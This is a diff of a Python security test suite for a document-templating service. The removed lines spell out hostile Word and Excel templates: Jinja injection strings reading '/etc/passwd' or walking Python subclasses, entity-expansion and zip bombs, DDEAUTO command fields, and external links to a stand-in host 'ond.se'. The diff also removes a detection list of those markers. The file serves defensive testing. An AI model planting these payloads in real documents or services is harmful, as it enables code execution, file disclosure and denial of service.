@@ -11,13 +11,16 @@ import time
 import zipfile
 from collections.abc import Callable, Iterator, Mapping, Sequence
 from contextlib import contextmanager
+from dataclasses import replace
 from io import BytesIO
 from pathlib import Path
 
-from tests.attack.attack import ANY, Attack, Build, Ended, Tried
+from tests.attack.attack import ANY, PASSES, REFUSED, Attack, Build, Ended, Tried
 from tests.attack.books import PLAN, Book
+from tests.attack.excel_templates import EXCEL
+from tests.attack.foreign import foreign
 from tests.attack.outputs import FILE
-from tests.files.handmade import zipped
+from tests.attack.word_templates import WORD, Template
 from tests.files.integrity import faults
 from workbooks.build import EXAMPLES
 
@@ -26,126 +29,16 @@ _XLSX = EXAMPLES.parent / "namndmall.xlsx"
 _MILLION = 1_000_000
 
 
-def _docx(change: Callable[[dict[str, bytes]], object]) -> bytes:
-    with zipfile.ZipFile(_DOCX) as archive:
-        parts = {name: archive.read(name) for name in archive.namelist()}
-    change(parts)
-    return zipped(parts)
-
-
-def _said(text: str) -> Callable[[dict[str, bytes]], object]:
-    """Put a paragraph of text first in the template's body."""
-    return lambda parts: _put(parts, f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>")
-
-
-def _put(parts: dict[str, bytes], xml: str) -> None:
-    body = parts["word/document.xml"].decode()
-    parts["word/document.xml"] = body.replace("<w:body>", f"<w:body>{xml}", 1).encode()
-
-
-def _linked(
-    kind: str, target: str, xml: str, part: str = "document"
-) -> Callable[[dict[str, bytes]], object]:
-    def change(parts: dict[str, bytes]) -> None:
-        name = f"word/_rels/{part}.xml.rels"
-        row = (
-            f'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
-            f'relationships/{kind}" Target="{target}" TargetMode="External"/>'
-        )
-        empty = b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>'
-        held = parts.get(name, empty).decode()
-        parts[name] = held.replace("</Relationships>", f"{row}</Relationships>").encode()
-        if part == "document":
-            _put(parts, xml)
-        else:
-            root = parts[f"word/{part}.xml"].decode()
-            parts[f"word/{part}.xml"] = re.sub(
-                r"(<w:\w+ [^>]*>)", rf"\1{xml}", root, count=1
-            ).encode()
-
-    return change
-
-
-_R = 'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
-_ENTITIES = (
-    b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "aaaaaaaaaa">'
-    + b"".join(f'<!ENTITY a{n} "{f"&a{n - 1 if n else str()};" * 10}">'.encode() for n in range(12))
-    + b"]><a>&a11;</a>"
-)
-
-#: Word templates: those that may not be used at all, by the text or the part that is in them.
-_TEMPLATES: Mapping[str, Callable[[dict[str, bytes]], object]] = {
-    "varv": _said("{% for i in range(100000000) %}x{% endfor %}"),
-    "varv-i-varv": _said("{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}{% endfor %}"),
-    "lipsum": _said("{{ lipsum(n=100000) }}"),
-    "lipsum-namn": _said("{{ lipsum }}"),
-    "cycler": _said("{{ cycler }}"),
-    "namespace": _said("{{ namespace() }}"),
-    "range": _said("{{ range(5) }}"),
-    "dict": _said("{{ dict(a=1) }}"),
-    "klass": _said("{{ ''.__class__.__mro__[1].__subclasses__() }}"),
-    "potens": _said("{{ 9**9**9 }}"),
-    "text-gånger": _said("{{ 'x' * 900000000 }}"),
-    "center": _said("{{ 'x'.center(900000000) }}"),
-    "format": _said("{{ '%0900000000d'|format(1) }}"),
-    "rekursion": _said("{% macro a() %}{{ a() }}{% endmacro %}{{ a() }}"),
-    "include": _said("{% include '/etc/passwd' %}"),
-    "import": _said("{% import '/etc/passwd' as x %}"),
-    "djupt-uttryck": _said("{{ " + "(" * 5_000 + "1" + ")" * 5_000 + " }}"),
-    "långt-uttryck": _said("{{ 1" + "+1" * 100_000 + " }}"),
-    "okänt": _said("{{ finns_inte }}"),
-    "trasig": _said("{% for x in %}"),
-    "oavslutad": _said("{{ "),
-    "summa": _said("{{ 191 * 7 }}"),
-    "attachedTemplate": _linked("attachedTemplate", "http://ond.se/m.dotm", '<w:attachedTemplate r:id="rIdX"/>', "settings"),
-    "altChunk": _linked("aFChunk", "http://ond.se/x.html", f'<w:altChunk {_R} r:id="rIdX"/>'),
-    "bild-utifrån": _linked("image", "http://ond.se/spion.png", ""),
-    "ram-utifrån": _linked("frame", "http://ond.se/x.html", ""),
-    "ole-utifrån": _linked("oleObject", "file://ond/x.doc", ""),
-    "ddeauto": lambda parts: _put(parts, '<w:p><w:fldSimple w:instr="DDEAUTO cmd x"><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>'),
-    "dde-delat": lambda parts: _put(parts, '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'),
-    "includetext": lambda parts: _put(parts, '<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;C:\\\\x&quot;"/></w:p>'),
-    "includepicture": lambda parts: _put(parts, '<w:p><w:fldSimple w:instr="INCLUDEPICTURE http://ond.se/x"/></w:p>'),
-    "makro": lambda parts: parts.update({"word/vbaProject.bin": b"x" * 100}),
-    "inbäddat": lambda parts: parts.update({"word/embeddings/oleObject1.bin": b"MZ" * 100}),
-    "bomb": lambda parts: parts.update({"word/media/x.xml": b" " * 300 * _MILLION}),
-    "bomb-i-dokumentet": lambda parts: _put(parts, " " * 300 * _MILLION),
-    "kommentar": lambda parts: parts.update({"word/document.xml": b"<!--" + b"x" * 9 * _MILLION + b"-->" + parts["word/document.xml"].partition(b"?>")[2]}),
-    "djupt": lambda parts: _put(parts, "<w:p>" * 200_000 + "</w:p>" * 200_000),
-    "doctype": lambda parts: parts.update({"word/document.xml": _ENTITIES}),
-    "stycken-många": lambda parts: _put(parts, "<w:p><w:r><w:t>x</w:t></w:r></w:p>" * 300_000),
-    "utan-dokument": lambda parts: parts.pop("word/document.xml"),
-    "trasigt-dokument": lambda parts: parts.update({"word/document.xml": parts["word/document.xml"][:-300]}),
-    "mall-i-sidhuvud": lambda parts: parts.update({n: c.replace(b"</w:t>", b"{{ lipsum }}</w:t>", 1) for n, c in parts.items() if "header" in n and n.endswith(".xml")}),
-    "mall-i-egenskaper": lambda parts: parts.update({"docProps/core.xml": parts["docProps/core.xml"].replace(b"</dc:title>", b"{{ lipsum }}</dc:title>")}),
-}  # fmt: skip
+def _parts(template: Path) -> dict[str, bytes]:
+    with zipfile.ZipFile(template) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
 
 
 def _nothing_foreign(ended: Ended) -> Iterator[str]:
-    """Hold that a document that came of it leads nowhere, runs nothing and has counted nothing."""
+    """Hold that a document that came of it leads nowhere and runs nothing."""
     for path in (ended.folder / "d").glob("*"):
-        if path.suffix not in {".docx", ".xlsx"}:
-            continue
-        with zipfile.ZipFile(path) as archive:
-            for name in archive.namelist():
-                text = archive.read(name).decode("utf-8", "replace")
-                for mark in (
-                    "ond.se",
-                    "DDEAUTO",
-                    "INCLUDETEXT",
-                    "INCLUDEPICTURE",
-                    "file://ond",
-                    "1337",
-                    "jinja2.",
-                    "Lorem",
-                    "lipsum",
-                    "&lt;class",
-                    "root:",
-                ):
-                    if mark in text:
-                        yield f"{path.name}, {name}: {mark}"
-                if name.endswith("vbaProject.bin") or "/embeddings/" in name:
-                    yield f"{path.name} has {name}"
+        if path.suffix in {".docx", ".xlsx"}:
+            yield from (f"{path.name}: {said}" for said in foreign(path.read_bytes()))
 
 
 def _with_template(name: str, make: Callable[[Path], object], form: str = "docx") -> Build:
@@ -158,26 +51,18 @@ def _with_template(name: str, make: Callable[[Path], object], form: str = "docx"
     return build
 
 
-def _spoilt(change: Callable[[dict[str, bytes]], object]) -> Build:
-    return _with_template("mall.docx", lambda path: path.write_bytes(_docx(change)))
+def _template(template: Template, ours: Path) -> Build:
+    """Hand over a template that is refused with its sentence, or filled in and told of."""
+    name = f"mall{ours.suffix}"
+    make = _with_template(
+        name, lambda path: path.write_bytes(template.make(_parts(ours))), ours.suffix[1:]
+    )
 
+    def build(folder: Path) -> Tried:
+        status = REFUSED if template.refused else PASSES
+        return replace(make(folder), status=status, says=template.refused or template.told)
 
-def _xlsx(change: Callable[[dict[str, bytes]], object]) -> Callable[[Path], object]:
-    def make(path: Path) -> None:
-        with zipfile.ZipFile(_XLSX) as archive:
-            parts = {name: archive.read(name) for name in archive.namelist()}
-        change(parts)
-        path.write_bytes(zipped(parts))
-
-    return make
-
-
-def _first_sheet(xml: bytes) -> Callable[[dict[str, bytes]], object]:
-    def change(parts: dict[str, bytes]) -> None:
-        name = next(name for name in parts if name.startswith("xl/worksheets/sheet"))
-        parts[name] = parts[name].replace(b"</sheetData>", b"</sheetData>" + xml, 1)
-
-    return change
+    return build
 
 
 _OTHERS: Mapping[str, tuple[str, Callable[[Path], object], str]] = {
@@ -190,15 +75,9 @@ _OTHERS: Mapping[str, tuple[str, Callable[[Path], object], str]] = {
     "arbetsbok": ("mall.docx", lambda path: Book().saved(path), "docx"),
     "stor": ("mall.docx", lambda path: path.write_bytes(_DOCX.read_bytes() + b"\0" * 80 * _MILLION), "docx"),
     "gammal-word": ("mall.doc", lambda path: path.write_bytes(b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 5000), "docx"),
-    "excel-bomb": ("mall.xlsx", _xlsx(lambda parts: parts.update({"xl/media/x.xml": b" " * 300 * _MILLION})), "xlsx"),
-    "excel-kommentar": ("mall.xlsx", _xlsx(lambda parts: parts.update({"xl/styles.xml": parts["xl/styles.xml"].replace(b"<fonts", b"<!--" + b"x" * 8 * _MILLION + b"--><fonts", 1)})), "xlsx"),
-    "excel-format": ("mall.xlsx", _xlsx(_first_sheet(b"<a>" * 200_000 + b"</a>" * 200_000)), "xlsx"),
-    "excel-sammanfogat": ("mall.xlsx", _xlsx(_first_sheet(b'<mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>')), "xlsx"),
     "excel-word": ("mall.xlsx", lambda path: path.write_bytes(_DOCX.read_bytes()), "xlsx"),
-    "excel-avhuggen": ("mall.xlsx", lambda path: path.write_bytes(_XLSX.read_bytes()[:-500]), "xlsx"),
-    "excel-makron": ("mall.xlsm", lambda path: path.write_bytes((EXAMPLES / "2022-11_manadsrapport.xlsm").read_bytes()), "xlsx"),
+    "excel-arbetsbok-med-makron": ("mall.xlsm", lambda path: path.write_bytes((EXAMPLES / "2022-11_manadsrapport.xlsm").read_bytes()), "xlsx"),
     "excel-rör": ("mall.xlsx", os.mkfifo, "xlsx"),
-    "excel-länk-ut": ("mall.xlsx", _xlsx(lambda parts: parts.update({"xl/_rels/workbook.xml.rels": parts["xl/_rels/workbook.xml.rels"].replace(b"</Relationships>", b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLink" Target="http://ond.se/x.xlsx" TargetMode="External"/></Relationships>')})), "xlsx"),
 }  # fmt: skip
 
 # A board's file.
@@ -429,9 +308,11 @@ def _nothing_foreign_in_it(ended: Ended) -> Iterator[str]:
 
 
 ATTACKS = (
-    *(Attack(f"mall-{name}", 9 if "Chunk" in name else 2, _spoilt(change),
-             name in {"attachedTemplate", "lipsum-namn"})
-      for name, change in _TEMPLATES.items()),
+    *(Attack(f"mall-{name}", 9, _template(template, _DOCX),
+             name in {"mallens-mall-unc", "klamrar-öppna"})
+      for name, template in WORD.items()),
+    *(Attack(f"mall-{name}", 9, _template(template, _XLSX), name == "excel-sammanfogat")
+      for name, template in EXCEL.items()),
     *(Attack(f"mall-{name}", 1, _with_template(*given)) for name, given in _OTHERS.items()),
     *(Attack(f"regelverk-{name}-mall", 2, _board(make, of_workbook=False), name == "djup-lista")
       for name, make in _TOMLS.items()),
